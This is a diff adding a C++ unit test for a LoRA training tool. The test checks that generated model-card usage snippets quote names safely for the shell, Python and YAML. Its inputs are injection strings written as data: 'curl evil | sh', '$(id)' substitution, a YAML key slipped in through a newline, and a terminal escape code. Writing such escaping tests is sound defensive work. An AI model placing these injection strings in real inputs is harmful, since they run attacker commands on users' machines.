@@ -181,5 +181,19 @@ TEST(Portable, ChecksEveryTensor) {
          "holds NaN or infinity");
 }
 
+TEST(ModelCard, NamesAreQuotedForTheShellPythonAndYaml) {
+  const std::string base = "org/model; curl evil | sh #\nx: y";
+  const std::string text = usage_section({base, "out's/$(id)\"", 8, true});
+  EXPECT_NE(text.find("\nvllm serve 'org/model; curl evil | sh # x: y' --enable-lora"), std::string::npos) << text;
+  EXPECT_NE(text.find("--adapter 'out'\\''s/$(id)\"' --output-dir 'out'\\''s/$(id)\"-merged'"), std::string::npos)
+      << text;
+  EXPECT_NE(text.find("from_pretrained(\"org/model; curl evil | sh # x: y\")"), std::string::npos) << text;
+  EXPECT_NE(text.find("\"out's/$(id)\\\"\""), std::string::npos) << text;
+  EXPECT_TRUE(card_head("a\nlicense: mit").starts_with("---\nbase_model: \"a\\nlicense: mit\"\n"));
+  EXPECT_EQ(one_line("a\x1b[2J\nb"), "a\\x1b[2J b");
+  EXPECT_NE(usage_section({"org/plain-1.5B", "runs/first/adapter", 8, true}).find("vllm serve org/plain-1.5B --"),
+            std::string::npos);
+}
+
 }  // namespace
 }  // namespace lora_train::lora
